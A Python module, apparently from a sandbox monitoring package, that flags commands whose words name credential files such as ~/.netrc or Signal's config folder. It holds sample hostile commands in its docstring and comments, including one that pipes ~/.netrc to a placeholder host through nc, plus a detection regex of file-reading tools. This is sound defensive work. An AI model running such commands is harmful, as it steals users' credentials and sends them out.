"""Which files of secrets the words of a command name. What a shell or `cp` opens nobody hears, and
where nothing is it leaves no trace.

`cat /home/dev/.netrc`    `sh -c cp -r ~/.config/Signal /tmp/x`

Hostile input: a command line as Python's witness says it.
"""

import re
from collections.abc import Iterator

from jail.orders import HOME_IN_JAIL
from jail.watch.credential_stores import store_of

MAX_FILES_OF_COMMAND = 100
# Their words are files to be read, or copied from one place to another.
READING = re.compile(
    r"\b(?:cat|tac|head|tail|less|more|cp|mv|ln|tar|zip|gzip|bzip2|xz|base64|base32|xxd|od|strings"
    r"|hexdump|grep|rg|find|rsync|dd|sqlite3|sed|awk|jq|scp|cut|sort|ls)\b"
)
# `~/.netrc` of `cat "~/.netrc"|nc x 1`
COMMAND_WORD = re.compile(r"[^\s;|&<>()\"'`]+")
HOME_WORDS = ("~/", "$HOME/", "${HOME}/")


def in_full(word: str) -> str:
    """A path as it is in the jail: `~/.netrc`, `$HOME/.netrc`, `--file=/etc/shadow`."""
    path = word.rpartition("=")[2]
    for home in HOME_WORDS:
        if path.startswith(home):
            return f"{HOME_IN_JAIL}/{path.removeprefix(home)}"
    return path


def secrets_in_command(line: str) -> Iterator[str]:
    """The files of secrets that a command reads."""
    if not READING.search(line):
        return
    for word in COMMAND_WORD.findall(line)[:MAX_FILES_OF_COMMAND]:
        path = in_full(word)
        # A folder that is copied is what is in it.
        if path.startswith("/") and (store_of(path) or store_of(f"{path}/")):
            yield path
